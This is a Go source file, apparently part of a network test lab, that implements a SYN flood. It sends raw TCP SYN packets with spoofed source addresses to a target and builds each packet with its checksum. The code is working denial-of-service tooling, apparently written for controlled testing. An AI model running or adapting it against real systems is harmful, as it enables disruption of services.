package lab

import (
	"errors"
	"fmt"
	"net/netip"
	"syscall"
)

// SYNFlood sends count TCP SYNs to dst from the client's namespace with
// spoofed sources (round robin over srcs, which should be on the lab's
// segment so that no reverse-path filter drops them), through a raw
// socket, source ports 1024 up. It returns how many were sent (a full
// qdisc loses some: ENOBUFS is not an error). It may run on a goroutine
// of its own: it reports its failure as an error.
func SYNFlood(srcs []netip.Addr, dst netip.AddrPort, count int) (int, error) {
	if len(srcs) == 0 || !dst.Addr().Is4() {
		return 0, errors.New("a SYN flood needs IPv4 sources and destination")
	}
	sent := 0
	err := Do(Client, func() error {
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
		if err != nil {
			return fmt.Errorf("raw socket: %w", err)
		}
		defer syscall.Close(fd)
		to := &syscall.SockaddrInet4{Addr: dst.Addr().As4()}
		for i := range count {
			if err := syscall.Sendto(fd, SYNPacket(srcs[i%len(srcs)], dst, uint16(1024+i%60000), uint32(i)), 0, to); err != nil {
				if errors.Is(err, syscall.ENOBUFS) {
					continue // the qdisc is full: a flood may lose packets
				}
				return fmt.Errorf("send: %w", err)
			}
			sent++
		}
		return nil
	})
	return sent, err
}

// SYNPacket is an IPv4 TCP SYN from src:sport to dst, for a raw socket
// with IP_HDRINCL (the kernel fills in the IP header's checksum).
func SYNPacket(src netip.Addr, dst netip.AddrPort, sport uint16, seq uint32) []byte {
	p := make([]byte, 40)
	p[0], p[8], p[9] = 0x45, 64, syscall.IPPROTO_TCP
	p[2], p[3] = 0, 40
	s, d := src.As4(), dst.Addr().As4()
	copy(p[12:16], s[:])
	copy(p[16:20], d[:])
	tcp := p[20:]
	tcp[0], tcp[1] = byte(sport>>8), byte(sport)
	tcp[2], tcp[3] = byte(dst.Port()>>8), byte(dst.Port())
	tcp[4], tcp[5], tcp[6], tcp[7] = byte(seq>>24), byte(seq>>16), byte(seq>>8), byte(seq)
	tcp[12], tcp[13], tcp[14], tcp[15] = 5<<4, 0x02, 0xff, 0xff
	// The checksum over the pseudo header and the segment.
	sum := uint32(0)
	for _, b := range [][]byte{s[:], d[:], {0, syscall.IPPROTO_TCP, 0, 20}, tcp} {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(b[i])<<8 | uint32(b[i+1])
		}
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	cs := ^uint16(sum)
	tcp[16], tcp[17] = byte(cs>>8), byte(cs)
	return p
}
